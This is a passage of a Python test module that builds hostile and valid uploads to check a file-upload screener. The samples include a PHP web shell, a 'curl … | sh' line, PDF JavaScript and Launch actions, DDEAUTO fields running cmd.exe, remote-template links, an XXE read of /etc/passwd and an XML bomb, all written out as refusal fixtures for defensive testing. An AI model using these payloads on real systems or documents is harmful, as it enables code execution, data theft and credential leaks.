"""The upload corpus: hostile files of every family the checker must refuse, and valid ones it
must accept. Every file is built from bytes here (tests/uploads/build.py); none is checked in.

Each :class:`Sample` says what it is (``kind``, the MIME type it is or pretends to be) and why
it must be refused (``reason``; None for a valid file). A form that does not take the kind at
all (a picture as a workbook) refuses it as the wrong type instead: :func:`expected`.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

import pikepdf

from tests.uploads import build
from tests.uploads.build import (
    DOCUMENT_RELS,
    DOCX_BODY,
    ODT_TEXT,
    RawEntry,
    content_xml,
    docx_parts,
    jpeg_bytes,
    jpeg_with_thumbnail,
    odf_xml,
    odt_parts,
    page_pdf,
    patch_zip,
    png_bomb,
    png_bytes,
    png_chunk,
    raw_pdf,
    raw_zip,
    relationships,
    stream,
    word_xml,
    zip_of,
)
from trainhub.uploads import DOCX, JPEG, ODT, PDF, PNG
from trainhub.uploads.refusals import Reason

#: Not one of the allowed kinds at all (a program, a web page, a GIF …).
OTHER = "other"


@dataclass(frozen=True)
class Sample:
    id: str
    filename: str
    data: bytes
    kind: str
    reason: Reason | None = None

    def __repr__(self) -> str:  # pytest ids and failure messages name the entry, not its bytes
        return f"Sample({self.id})"


def expected(sample: Sample, allowed: Mapping[str, str]) -> Reason | None:
    """Why a form taking ``allowed`` types refuses ``sample`` (None: it is accepted)."""
    if sample.kind not in allowed:
        return Reason.TYPE
    return sample.reason


# Payloads glued to files by polyglots --------------------------------------------------------

HTML = b"<html><body><script>fetch('/my/cpd').then(r=>r.text()).then(alert)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(40)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"PE\x00\x00"
SHELL = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"
JUNK = b"garbage after the end"


@cache
def zip_payload() -> bytes:
    return zip_of({"payload/readme.txt": "run me", "payload/tool.exe": PE})


PAYLOADS: dict[str, Callable[[], bytes]] = {
    "html": lambda: HTML,
    "php": lambda: PHP,
    "zip": zip_payload,
    "elf": lambda: ELF,
    "pe": lambda: PE,
    "shell": lambda: SHELL,
    "junk": lambda: JUNK,
}


# PDF -----------------------------------------------------------------------------------------

JS = b"(app.launchURL\\('https://198.51.100.7/?'+this.path\\))"
ANNOT_RECT = b"/Rect [72 700 200 720]"


def _widget(extra: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /P 3 0 R %s %s >>" % (
        ANNOT_RECT,
        extra,
    )


def _link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link %s /A %s >>" % (ANNOT_RECT, action)


def _field(aa: bytes) -> dict[str, object]:
    """A form field whose additional actions are ``aa``."""
    return {
        "catalog": b"/AcroForm << /Fields [6 0 R] >>",
        "page": b"/Annots [6 0 R]",
        "extra": [_widget(b"/AA << %s >>" % aa)],
    }


def _annotation(annotation: bytes) -> dict[str, object]:
    return {"page": b"/Annots [6 0 R]", "extra": [annotation]}


def _js_action(js: bytes = JS) -> bytes:
    return b"<< /Type /Action /S /JavaScript /JS %s >>" % js


PDF_JAVASCRIPT: dict[str, dict[str, object]] = {
    "open-action": {"catalog": b"/OpenAction %s" % _js_action()},
    "open-action-indirect": {"catalog": b"/OpenAction 6 0 R", "extra": [_js_action()]},
    "open-action-js-stream": {
        "catalog": b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
        "extra": [stream(b"app.alert('x');")],
    },
    "open-action-hex-names": {"catalog": b"/OpenAction << /S /J#61vaScript /J#53 %s >>" % JS},
    "open-action-after-goto": {
        "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % _js_action()
    },
    "open-action-next-array": {
        "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] "
        b">> %s] >>" % _js_action()
    },
    "names-tree": {"catalog": b"/Names << /JavaScript << /Names [(init) %s] >> >>" % _js_action()},
    "names-tree-indirect": {
        "catalog": b"/Names 6 0 R",
        "extra": [b"<< /JavaScript 7 0 R >>", b"<< /Names [(init) 8 0 R] >>", _js_action()],
    },
    "document-will-close": {"catalog": b"/AA << /WC %s >>" % _js_action()},
    "page-open": {"page": b"/AA << /O %s >>" % _js_action()},
    "page-close": {"page": b"/AA << /C %s >>" % _js_action()},
    "annotation-enter": _annotation(_widget(b"/AA << /E %s >>" % _js_action())),
    "annotation-page-visible": _annotation(_widget(b"/AA << /PV %s >>" % _js_action())),
    "field-keystroke": _field(b"/K %s" % _js_action()),
    "field-format": _field(b"/F %s" % _js_action()),
    "field-validate": _field(b"/V %s" % _js_action()),
    "field-calculate": _field(b"/C %s" % _js_action()),
    "link-click": _annotation(_link(_js_action())),
    "xfa-form": {
        "catalog": b"/AcroForm << /Fields [] /XFA 6 0 R >>",
        "extra": [stream(b"<xdp:xdp><script contentType='application/x-javascript'>x</script>")],
    },
    "rendition-js": _annotation(_link(b"<< /S /Rendition /JS %s >>" % JS)),
}
#: Objects nothing refers to: qpdf drops them when it rewrites a file, so no object-stream copy.
PDF_JAVASCRIPT_ORPHANS: dict[str, dict[str, object]] = {
    "orphan-js-object": {"extra": [b"<< /JS %s >>" % JS]},
}

PDF_LAUNCH: dict[str, dict[str, object]] = {
    "open-action-launch": {"catalog": b"/OpenAction << /S /Launch /F (calc.exe) >>"},
    "open-action-launch-win": {
        "catalog": b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    },
    "open-action-launch-hex": {"catalog": b"/OpenAction << /S /L#61unch /F (calc.exe) >>"},
    "link-launch": _annotation(_link(b"<< /S /Launch /F (\\\\\\\\198.51.100.7\\\\x\\\\a.exe) >>")),
    "page-open-launch": {"page": b"/AA << /O << /S /Launch /F (a.bat) >> >>"},
    "open-action-remote-goto": {
        "catalog": b"/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) "
        b"/D [0 /Fit] >>"
    },
    "link-remote-goto": _annotation(_link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
    "link-embedded-goto": _annotation(_link(b"<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>")),
    "launch-after-goto": {
        "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (x.exe) >> >>"
    },
    # An article thread in another file: opened from a share or a web server like GoToR.
    "open-action-thread-in-remote-file": {
        "catalog": b"/OpenAction 6 0 R",
        "extra": [b"<< /S /Thread /F (\\\\\\\\198.51.100.7\\\\s\\\\x.pdf) /D 0 >>"],
    },
    "thread-in-remote-file-after-goto": {
        "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Thread /F << /FS /URL "
        b"/F (http://198.51.100.7/x.pdf) >> /D 0 >> >>"
    },
    "link-thread-in-remote-file": _annotation(_link(b"<< /S /Thread /F (other.pdf) /D 0 >>")),
}

PDF_ATTACHMENTS: dict[str, dict[str, object]] = {
    "embedded-files-tree": {
        "catalog": b"/Names << /EmbeddedFiles << /Names [(tool.exe) 6 0 R] >> >>",
        "extra": [
            b"<< /Type /Filespec /F (tool.exe) /EF << /F 7 0 R >> >>",
            stream(PE, b"/Type /EmbeddedFile"),
        ],
    },
    "file-attachment-annotation": _annotation(
        b"<< /Type /Annot /Subtype /FileAttachment %s /FS << /Type /Filespec /F (a.exe) >> >>"
        % ANNOT_RECT
    ),
    "filespec-ef": {
        "catalog": b"/Extra 6 0 R",
        "extra": [b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(PE)],
    },
}
PDF_ATTACHMENT_ORPHANS: dict[str, dict[str, object]] = {
    "embedded-file-stream": {"extra": [stream(PE, b"/Type /EmbeddedFile")]},
}

PDF_ACTIONS: dict[str, dict[str, object]] = {
    "open-action-uri": {"catalog": b"/OpenAction << /S /URI /URI (https://198.51.100.7/) >>"},
    "open-action-uri-indirect": {
        "catalog": b"/OpenAction 6 0 R",
        "extra": [b"<< /S /URI /URI (https://198.51.100.7/) >>"],
    },
    "open-action-uri-after-goto": {
        "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://x/) >> >>"
    },
    "page-open-uri": {"page": b"/AA << /O << /S /URI /URI (https://198.51.100.7/p) >> >>"},
    "annotation-uri-on-view": _annotation(
        _widget(b"/AA << /PV << /S /URI /URI (https://198.51.100.7/a) >> >>")
    ),
    "field-uri": _field(b"/Fo << /S /URI /URI (https://198.51.100.7/f) >>"),
    "document-uri-on-print": {"catalog": b"/AA << /WP << /S /URI /URI (http://x/) >> >>"},
    "open-action-submit": {
        "catalog": b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/) >> >>"
    },
    "link-submit": _annotation(
        _link(b"<< /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/) >> >>")
    ),
    "field-submit": _field(b"/Bl << /S /SubmitForm /F (https://198.51.100.7/) >>"),
    "open-action-import": {"catalog": b"/OpenAction << /S /ImportData /F (data.fdf) >>"},
    "link-import": _annotation(_link(b"<< /S /ImportData /F (\\\\\\\\198.51.100.7\\\\a.fdf) >>")),
}

#: Links clicked in a PDF that open a file, a share or a program instead of a web page.
PDF_UNSAFE_LINKS: dict[str, dict[str, object]] = {
    name: _annotation(_link(b"<< /S /URI /URI (%s) >>" % uri))
    for name, uri in (
        ("file-on-share", b"file://198.51.100.7/share/x.pdf"),
        ("file-on-drive", b"FILE:///C:/Windows/System32/calc.exe"),
        ("unc", b"\\\\\\\\198.51.100.7\\\\share\\\\a.exe"),
        ("drive", b"C:/Windows/System32/calc.exe"),
        ("smb", b"smb://198.51.100.7/share/a.exe"),
        ("ms-msdt", b"ms-msdt:/id PCWDiagnostic /skip force"),
        ("search-ms", b"search-ms:query=x&crumb=location:%5C%5C198.51.100.7%5Cs"),
        ("javascript", b"javascript:void0"),
        ("percent-unc", b"%5c%5c198.51.100.7%5cshare%5ca.exe"),
        ("relative", b"tools/setup.exe"),
    )
}
PDF_UNSAFE_LINKS["relative-to-a-share"] = {
    **_annotation(_link(b"<< /S /URI /URI (#page=1) >>")),
    "catalog": b"/URI << /Base (file://198.51.100.7/share/) >>",
}

PDF_MEDIA: dict[str, dict[str, object]] = {
    "rich-media": _annotation(b"<< /Type /Annot /Subtype /RichMedia %s >>" % ANNOT_RECT),
    "3d": _annotation(b"<< /Type /Annot /Subtype /3D %s >>" % ANNOT_RECT),
    "screen-rendition": _annotation(
        b"<< /Type /Annot /Subtype /Screen %s /A << /S /Rendition /OP 0 >> >>" % ANNOT_RECT
    ),
    "sound": _annotation(b"<< /Type /Annot /Subtype /Sound %s >>" % ANNOT_RECT),
    "movie": _annotation(b"<< /Type /Annot /Subtype /Movie %s >>" % ANNOT_RECT),
}


def _pdf(spec: Mapping[str, object]) -> bytes:
    return page_pdf(
        catalog=spec.get("catalog", b""),  # type: ignore[arg-type]
        page=spec.get("page", b""),  # type: ignore[arg-type]
        extra=spec.get("extra", []),  # type: ignore[arg-type]
    )


def object_streams(data: bytes) -> bytes:
    """The same PDF rewritten by qpdf with compressed object streams and xref stream."""
    with warnings.catch_warnings(), pikepdf.open(io.BytesIO(data)) as document:
        warnings.simplefilter("ignore")  # widgets outside /AcroForm: meant, here
        buffer = io.BytesIO()
        document.save(
            buffer,
            static_id=True,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            compress_streams=True,
        )
    return buffer.getvalue()


def _pdf_family(
    prefix: str, specs: Mapping[str, Mapping[str, object]], reason: Reason, *, rewrite: bool = True
) -> Iterator[Sample]:
    for name, spec in specs.items():
        data = _pdf(spec)
        yield Sample(f"pdf-{prefix}-{name}", "workbook.pdf", data, PDF, reason)
        if rewrite:
            yield Sample(
                f"pdf-{prefix}-{name}-object-streams",
                "Workbook.PDF",
                object_streams(data),
                PDF,
                reason,
            )


def _pikepdf_samples() -> Iterator[Sample]:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["tool.exe"] = pikepdf.AttachedFileSpec(
        document, PE, mime_type="application/x-msdownload"
    )
    buffer = io.BytesIO()
    document.save(buffer, static_id=True)
    yield Sample("pdf-attachment-qpdf", "cert.pdf", buffer.getvalue(), PDF, Reason.PDF_ATTACHMENTS)
    for name, encryption in (
        ("aes256", pikepdf.Encryption(user="secret", owner="owner", R=6)),
        ("rc4", pikepdf.Encryption(user="secret", owner="owner", R=3, aes=False, metadata=False)),
    ):
        locked = pikepdf.new()
        locked.add_blank_page()
        buffer = io.BytesIO()
        locked.save(buffer, static_id=True, encryption=encryption)
        yield Sample(f"pdf-password-{name}", "cert.pdf", buffer.getvalue(), PDF, Reason.PASSWORD)
    scripted = pikepdf.new()
    scripted.add_blank_page()
    scripted.Root.OpenAction = scripted.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    buffer = io.BytesIO()
    scripted.save(buffer, static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield Sample("pdf-javascript-qpdf", "w.pdf", buffer.getvalue(), PDF, Reason.PDF_JAVASCRIPT)


def _pdf_polyglots() -> Iterator[Sample]:
    clean = build.minimal_pdf()
    for name, payload in PAYLOADS.items():
        yield Sample(f"pdf-then-{name}", "w.pdf", clean + payload(), PDF, Reason.HIDDEN_DATA)
    yield Sample(
        "pdf-then-zip-then-eof",
        "w.pdf",
        clean + zip_payload() + b"\n%%EOF\n",
        PDF,
        Reason.HIDDEN_DATA,
    )
    yield Sample(
        "pdf-then-nul-and-junk", "w.pdf", clean + b"\x00\x00" + JUNK, PDF, Reason.HIDDEN_DATA
    )
    for name, prefix in (
        ("elf", ELF),
        ("pe", PE),
        ("html", HTML),
        ("php", PHP),
        ("spaces", b" " * 64),
    ):
        yield Sample(f"{name}-then-pdf", "w.pdf", prefix + clean, PDF, Reason.HIDDEN_DATA)
    yield Sample("pdf-four-bytes", "w.pdf", b"%PDF", PDF, Reason.DAMAGED_PDF)
    yield Sample("pdf-header-only", "w.pdf", b"%PDF-1.7\n", PDF, Reason.DAMAGED_PDF)
    yield Sample("pdf-header-and-eof", "w.pdf", b"%PDF-1.7\n%%EOF\n", PDF, Reason.DAMAGED_PDF)
    yield Sample("pdf-truncated", "w.pdf", clean[: len(clean) // 2], PDF, Reason.DAMAGED_PDF)
    yield Sample(
        "pdf-no-catalogue",
        "w.pdf",
        raw_pdf([b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]),
        PDF,
        Reason.DAMAGED_PDF,
    )
    yield Sample(
        "pdf-random-body",
        "w.pdf",
        b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n",
        PDF,
        Reason.DAMAGED_PDF,
    )


@cache
def _many_objects() -> bytes:
    """100,000 objects more than a page needs, all referred to from the catalogue."""
    count = 100_000
    refs = b" ".join(b"%d 0 R" % n for n in range(4, 4 + count))
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Extra [%s] >>" % refs,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            *([b"<< >>"] * count),
        ]
    )


def pdf_samples() -> Iterator[Sample]:
    yield from _pdf_family("javascript", PDF_JAVASCRIPT, Reason.PDF_JAVASCRIPT)
    yield from _pdf_family(
        "javascript", PDF_JAVASCRIPT_ORPHANS, Reason.PDF_JAVASCRIPT, rewrite=False
    )
    yield from _pdf_family("launch", PDF_LAUNCH, Reason.PDF_LAUNCH)
    yield from _pdf_family("attachment", PDF_ATTACHMENTS, Reason.PDF_ATTACHMENTS)
    yield from _pdf_family(
        "attachment", PDF_ATTACHMENT_ORPHANS, Reason.PDF_ATTACHMENTS, rewrite=False
    )
    yield from _pdf_family("action", PDF_ACTIONS, Reason.PDF_ACTIONS)
    yield from _pdf_family("media", PDF_MEDIA, Reason.PDF_MEDIA)
    yield from _pdf_family("link", PDF_UNSAFE_LINKS, Reason.UNSAFE_LINK)
    yield from _pikepdf_samples()
    yield from _pdf_polyglots()
    yield Sample("pdf-100000-objects", "w.pdf", _many_objects(), PDF, Reason.PDF_COMPLEX)
    yield Sample(
        "pdf-100000-objects-in-object-streams",
        "w.pdf",
        object_streams(_many_objects()),
        PDF,
        Reason.PDF_COMPLEX,
    )


# Word ----------------------------------------------------------------------------------------

VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b'Attribute VB_Name = "ThisDocument"'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"


def _docx(
    *,
    extra: Mapping[str, bytes | str] | None = None,
    rels: tuple[tuple[str, ...], ...] = (),
    types: str = "",
    body: str = DOCX_BODY,
    main: str = build.WORD_MAIN,
    header: str | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
    drop: tuple[str, ...] = (),
) -> bytes:
    options: dict[str, object] = {}
    if header is not None:
        options["header"] = header
    parts = docx_parts(
        body=body,
        rels=DOCUMENT_RELS + rels,
        main=main,
        types_extra=types,
        **options,  # type: ignore[arg-type]
    )
    parts.update(extra or {})
    for name in drop:
        del parts[name]
    return zip_of(parts, compression=compression)


def _settings_with_template(target: str, mode: str | None = "External") -> dict[str, bytes | str]:
    rel = ("rIdTpl", "attachedTemplate", target) + ((mode,) if mode is not None else ())
    return {
        "word/settings.xml": word_xml("settings", '<w:attachedTemplate r:id="rIdTpl"/>'),
        "word/_rels/settings.xml.rels": relationships(rel),  # type: ignore[arg-type]
    }


def _field_run(instruction: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in instruction.split("|")
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar '
        'w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>'
    )


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
DDE_ATTRIBUTE = DDE.replace('"', "&quot;")
FIELDS: dict[str, str] = {
    "ddeauto": DDE,
    "dde": 'DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" "x"',
    "ddeauto-lower": DDE.lower(),
    "ddeauto-split": "DD|EA|" + DDE[4:],
    "ddeauto-spaces": "    " + DDE,
    "includetext": 'INCLUDETEXT "\\\\\\\\198.51.100.7\\\\share\\\\a.docx"',
    "includepicture": 'INCLUDEPICTURE "https://198.51.100.7/track.png" \\\\d',
    "link": 'LINK Excel.Sheet.8 "\\\\\\\\198.51.100.7\\\\s.xls" "Sheet1!R1C1"',
    "import": 'IMPORT "https://198.51.100.7/a.png"',
    "macrobutton": "MACROBUTTON FileOpen Double-click here",
}


def _word_samples() -> Iterator[Sample]:
    bin_types = f'<Default Extension="bin" ContentType="{VBA_TYPE}"/>'
    vba_rel = (
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    macro = Reason.DOCX_MACROS
    for compression, tag in ((zipfile.ZIP_DEFLATED, "deflated"), (zipfile.ZIP_STORED, "stored")):
        yield Sample(
            f"docx-vba-project-{tag}",
            "workbook.docx",
            _docx(
                extra={"word/vbaProject.bin": VBA},
                rels=(vba_rel,),
                types=bin_types,
                main=MACRO_MAIN,
                compression=compression,
            ),
            DOCX,
            macro,
        )
        yield Sample(
            f"docx-vba-project-only-{tag}",
            "workbook.docx",
            _docx(extra={"word/vbaProject.bin": VBA}, compression=compression),
            DOCX,
            macro,
        )
    yield Sample(
        "docx-vba-project-upper-case",
        "WORKBOOK.DOCX",
        _docx(extra={"word/VBAPROJECT.BIN": VBA}),
        DOCX,
        macro,
    )
    yield Sample(
        "docx-vba-project-elsewhere",
        "w.docx",
        _docx(extra={"customXml/vbaProject.bin": VBA}),
        DOCX,
        macro,
    )
    yield Sample("docx-docm-renamed", "w.docx", _docx(main=MACRO_MAIN), DOCX, macro)
    yield Sample(
        "docx-template-macro-type",
        "w.docx",
        _docx(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        DOCX,
        macro,
    )
    yield Sample("docx-vba-content-type-only", "w.docx", _docx(types=bin_types), DOCX, macro)
    yield Sample(
        "docx-vba-data",
        "w.docx",
        _docx(
            extra={
                "word/vbaData.xml": '<?xml version="1.0"?><wne:vbaSuppData '
                'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
            }
        ),
        DOCX,
        macro,
    )
    yield Sample("docx-vba-relationship-only", "w.docx", _docx(rels=(vba_rel,)), DOCX, macro)
    yield Sample(
        "docx-custom-ui",
        "w.docx",
        _docx(
            extra={
                "customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft'
                '.com/office/2006/01/customui" onLoad="Go"/>'
            }
        ),
        DOCX,
        macro,
    )

    linked = Reason.LINKED
    for name, target in (
        ("http", "https://198.51.100.7/templates/report.dotm"),
        ("unc", "\\\\198.51.100.7\\share\\report.dotm"),
        ("file-host", "file://198.51.100.7/templates/report.dotm"),
        ("file-unc", "file:///\\\\198.51.100.7\\templates\\report.dotm"),
        ("webdav", "http://198.51.100.7@SSL/DavWWWRoot/t.dotm"),
    ):
        yield Sample(
            f"docx-remote-template-{name}",
            "w.docx",
            _docx(extra=_settings_with_template(target)),
            DOCX,
            linked,
        )
    image_body = DOCX_BODY.replace('r:embed="rIdImg"', 'r:link="rIdRemote"')
    for name, target in (
        ("unc", "\\\\198.51.100.7\\share\\logo.png"),
        ("http", "https://198.51.100.7/pixel.png"),
        ("file", "file://198.51.100.7/share/logo.png"),
    ):
        yield Sample(
            f"docx-linked-image-{name}",
            "w.docx",
            _docx(rels=(("rIdRemote", "image", target, "External"),), body=image_body),
            DOCX,
            linked,
        )
    yield Sample(
        "docx-external-mode-lower-case",
        "w.docx",
        _docx(rels=(("rIdRemote", "image", "http://198.51.100.7/a.png", "external"),)),
        DOCX,
        linked,
    )
    yield Sample(
        "docx-external-frame",
        "w.docx",
        _docx(
            extra={
                "word/webSettings.xml": word_xml("webSettings", ""),
                "word/_rels/webSettings.xml.rels": relationships(
                    ("rIdF", "frame", "https://198.51.100.7/frame.html", "External")
                ),
            }
        ),
        DOCX,
        linked,
    )
    yield Sample(
        "docx-sub-document",
        "w.docx",
        _docx(
            rels=(("rIdSub", "subDocument", "sub.docx", "External"),),
            body=DOCX_BODY + '<w:p><w:subDoc r:id="rIdSub"/></w:p>',
        ),
        DOCX,
        linked,
    )
    yield Sample(
        "docx-hyperlink-to-share",
        "w.docx",
        _docx(rels=(("rIdUnc", "hyperlink", "\\\\198.51.100.7\\share\\a.exe", "External"),)),
        DOCX,
        Reason.UNSAFE_LINK,
    )
    yield Sample(
        "docx-hyperlink-to-file",
        "w.docx",
        _docx(rels=(("rIdUnc", "hyperlink", "file:///C:/Windows/System32/calc.exe", "External"),)),
        DOCX,
        Reason.UNSAFE_LINK,
    )

    for name, instruction in FIELDS.items():
        yield Sample(
            f"docx-field-{name}",
            "w.docx",
            _docx(body=DOCX_BODY + _field_run(instruction)),
            DOCX,
            Reason.FIELDS,
        )
    yield Sample(
        "docx-field-simple-ddeauto",
        "w.docx",
        _docx(body=DOCX_BODY + f'<w:p><w:fldSimple w:instr="{DDE_ATTRIBUTE}"/></w:p>'),
        DOCX,
        Reason.FIELDS,
    )
    yield Sample(
        "docx-field-in-header",
        "w.docx",
        _docx(header=_field_run(FIELDS["includetext"])),
        DOCX,
        Reason.FIELDS,
    )
    yield Sample(
        "docx-field-in-footnote",
        "w.docx",
        _docx(
            extra={
                "word/footnotes.xml": word_xml(
                    "footnotes", f'<w:footnote w:id="1">{_field_run(DDE)}</w:footnote>'
                )
            }
        ),
        DOCX,
        Reason.FIELDS,
    )
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 '
        "</w:instrText></w:r>"
        + _field_run(DDE)[5:-6]
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    yield Sample("docx-field-nested", "w.docx", _docx(body=DOCX_BODY + nested), DOCX, Reason.FIELDS)

    embedded = Reason.EMBEDDED
    ole_body = DOCX_BODY + (
        '<w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" '
        'ShapeID="s1" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    yield Sample(
        "docx-ole-object",
        "w.docx",
        _docx(
            body=ole_body,
            rels=(("rIdOle", "oleObject", "embeddings/oleObject1.bin"),),
            extra={"word/embeddings/oleObject1.bin": VBA},
        ),
        DOCX,
        embedded,
    )
    yield Sample("docx-ole-element-only", "w.docx", _docx(body=ole_body), DOCX, embedded)
    yield Sample(
        "docx-ole-binary-only",
        "w.docx",
        _docx(extra={"word/embeddings/oleObject1.bin": VBA}),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-embedded-exe", "w.docx", _docx(extra={"word/media/update.exe": PE}), DOCX, embedded
    )
    yield Sample(
        "docx-embedded-exe-in-embeddings",
        "w.docx",
        _docx(extra={"word/embeddings/setup.exe": PE}),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-embedded-script",
        "w.docx",
        _docx(extra={"run.js": b"WScript.Echo(1)"}),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-embedded-shortcut",
        "w.docx",
        _docx(extra={"word/media/a.lnk": b"L\x00"}),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-activex",
        "w.docx",
        _docx(
            extra={
                "word/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx '
                'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
                "word/activeX/activeX1.bin": VBA,
            }
        ),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-activex-relationship",
        "w.docx",
        _docx(rels=(("rIdAx", "control", "activeX/activeX1.xml"),)),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-alt-chunk",
        "w.docx",
        _docx(
            rels=(("rIdAlt", "aFChunk", "afchunk.mht"),),
            extra={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<script>x</script>"},
            body=DOCX_BODY + '<w:altChunk r:id="rIdAlt"/>',
        ),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-alt-chunk-element-only",
        "w.docx",
        _docx(body=DOCX_BODY + '<w:altChunk r:id="rIdAlt"/>'),
        DOCX,
        embedded,
    )
    yield Sample(
        "docx-embedded-docm",
        "w.docx",
        _docx(extra={"word/embeddings/Document.docm": zip_of(docx_parts())}),
        DOCX,
        embedded,
    )
    macro_sheet = zip_of(
        {
            "[Content_Types].xml": build.content_types(),
            "xl/workbook.xml": "<workbook/>",
            "xl/vbaProject.bin": VBA,
        }
    )
    yield Sample(
        "docx-chart-workbook-with-macros",
        "w.docx",
        _docx(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": macro_sheet}),
        DOCX,
        macro,
    )
    yield Sample(
        "docx-chart-workbook-not-a-zip",
        "w.docx",
        _docx(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": PE}),
        DOCX,
        embedded,
    )

    plain = build.docx_bytes()
    for name, payload in PAYLOADS.items():
        yield Sample(f"docx-then-{name}", "w.docx", plain + payload(), DOCX, Reason.HIDDEN_DATA)
    for name, prefix in (("junk", JUNK), ("html", HTML), ("elf", ELF)):
        yield Sample(f"{name}-then-docx", "w.docx", prefix + plain, OTHER, Reason.TYPE)
    yield Sample("docx-then-pdf", "w.docx", plain + build.minimal_pdf(), DOCX, Reason.HIDDEN_DATA)
    yield Sample("pdf-header-then-docx", "w.docx", b"%PDF-1.7\n" + plain, PDF, Reason.DAMAGED_PDF)
    with_comment = bytearray(plain)
    with_comment[-2:] = len(HTML).to_bytes(2, "little")
    yield Sample("docx-zip-comment", "w.docx", bytes(with_comment) + HTML, DOCX, Reason.HIDDEN_DATA)
    yield Sample(
        "docx-pdf-in-first-entry",
        "w.docx",
        zip_of({"a.xml": b"<a>%PDF-1.7</a>", **docx_parts()}, stored=("a.xml",)),
        DOCX,
        Reason.HIDDEN_DATA,
    )
    yield Sample(
        "docx-encrypted-entry",
        "w.docx",
        patch_zip(plain, "word/document.xml", flags=0x1),
        DOCX,
        Reason.PASSWORD,
    )
    yield Sample("doc-old-word", "w.docx", VBA, DOCX, Reason.OLD_WORD)
    yield Sample(
        "docx-password-protected",
        "w.docx",
        VBA[:8] + bytes(504) + "EncryptionInfo".encode("utf-16-le"),
        DOCX,
        Reason.OLD_WORD,
    )

    damaged = Reason.DAMAGED_DOCX
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
        '"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><w:document xmlns:w="'
        + build.W
        + '"><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>'
    )
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<w:document xmlns:w="' + build.W + '"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    yield Sample(
        "docx-billion-laughs", "w.docx", _docx(extra={"word/document.xml": laughs}), DOCX, damaged
    )
    yield Sample(
        "docx-external-entity", "w.docx", _docx(extra={"word/document.xml": xxe}), DOCX, damaged
    )
    yield Sample(
